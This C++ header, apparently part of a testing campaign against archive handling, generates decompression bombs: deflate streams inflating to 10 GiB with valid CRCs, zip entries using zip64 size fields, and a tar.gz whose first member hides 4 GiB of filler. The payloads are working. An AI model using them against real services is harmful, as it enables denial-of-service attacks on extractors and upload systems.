// Small archives with entries of gigabytes.
#pragma once

#include <string>

#include <zlib.h>

#include "campaign.hpp"
#include "support/raw_zip.hpp"

namespace coursera::campaign {

constexpr uint64_t kBombBytes = uint64_t{10} << 30;

// A deflate stream of `start` and then one piece all over, with its size and checksum.
struct Bomb {
	std::string deflated;
	uint64_t size = 0;
	uint32_t crc = 0;
};

// The piece is deflated so that it ends at a byte and looks back at nothing, and then repeated.
inline Bomb MakeBomb(const std::string& start, const std::string& piece,
                     uint64_t size = kBombBytes) {
	auto deflated = [](const std::string& bytes, int flush) {
		z_stream stream{};
		deflateInit2(&stream, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY);
		std::string out(deflateBound(&stream, bytes.size()) + 64, '\0');
		stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(bytes.data()));
		stream.avail_in = static_cast<uInt>(bytes.size());
		stream.next_out = reinterpret_cast<Bytef*>(&out[0]);
		stream.avail_out = static_cast<uInt>(out.size());
		(void)deflate(&stream, flush);
		out.resize(out.size() - stream.avail_out);
		deflateEnd(&stream);
		return out;
	};
	auto checksum = [](const std::string& bytes) {
		return crc32(0, reinterpret_cast<const Bytef*>(bytes.data()),
		             static_cast<uInt>(bytes.size()));
	};
	const std::string piece_deflated = deflated(piece, Z_FULL_FLUSH);
	const uLong piece_crc = checksum(piece);
	Bomb bomb;
	bomb.deflated = deflated(start, Z_FULL_FLUSH);
	bomb.size = start.size();
	uLong crc = checksum(start);
	while (bomb.size + piece.size() <= size) {
		bomb.deflated += piece_deflated;
		bomb.size += piece.size();
		crc = crc32_combine(crc, piece_crc, static_cast<z_off_t>(piece.size()));
	}
	bomb.deflated += deflated("", Z_FINISH);
	bomb.crc = static_cast<uint32_t>(crc);
	return bomb;
}

// The same of one byte.
inline Bomb MakeBomb(const std::string& start, char filler, uint64_t size = kBombBytes) {
	constexpr uint64_t kPiece = uint64_t{4} << 20;
	return MakeBomb(start, std::string(kPiece, filler), size);
}

// The bomb as a deflated entry, its size in a zip64 field.
inline support::RawZipEntry BombEntry(const std::string& name, const Bomb& bomb) {
	support::RawZipEntry entry;
	entry.name = name;
	entry.payload = bomb.deflated;
	entry.method = 8;
	entry.crc = bomb.crc;
	entry.size = bomb.size;
	if (bomb.size > 0xfffffffeU) {
		entry.size = 0xffffffffU;
		support::PutNumber(&entry.central_extra, 1, 2);
		support::PutNumber(&entry.central_extra, 8, 2);
		support::PutNumber(&entry.central_extra, bomb.size, 8);
	}
	return entry;
}

// A tar.gz whose first file is the bomb; what follows has to be looked for after it.
inline std::string TarGzBomb(const std::string& name, const std::string& start, char filler) {
	constexpr uint64_t kSize = uint64_t{4} << 30;
	std::string header(512, '\0');
	header.replace(0, name.size(), name);
	header.replace(100, 7, "0000644");
	header.replace(108, 7, "0000000");
	header.replace(116, 7, "0000000");
	char size[13];
	std::snprintf(size, sizeof(size), "%011llo", static_cast<unsigned long long>(kSize));
	header.replace(124, 11, size);
	header.replace(136, 11, "00000000000");
	header.replace(148, 8, "        ");
	header[156] = '0';
	header.replace(257, 5, "ustar");
	header.replace(263, 2, "00");
	unsigned sum = 0;
	for (char c : header)
		sum += static_cast<unsigned char>(c);
	char text[8];
	std::snprintf(text, sizeof(text), "%06o", sum);
	header.replace(148, 7, std::string(text) + '\0');
	const Bomb bomb = MakeBomb(header + start, filler, kSize + 512);
	std::string bytes("\x1f\x8b\x08\0\0\0\0\0\0\x03", 10);
	bytes += bomb.deflated;
	support::PutNumber(&bytes, bomb.crc, 4);
	support::PutNumber(&bytes, bomb.size, 4);
	return bytes;
}

} // namespace coursera::campaign
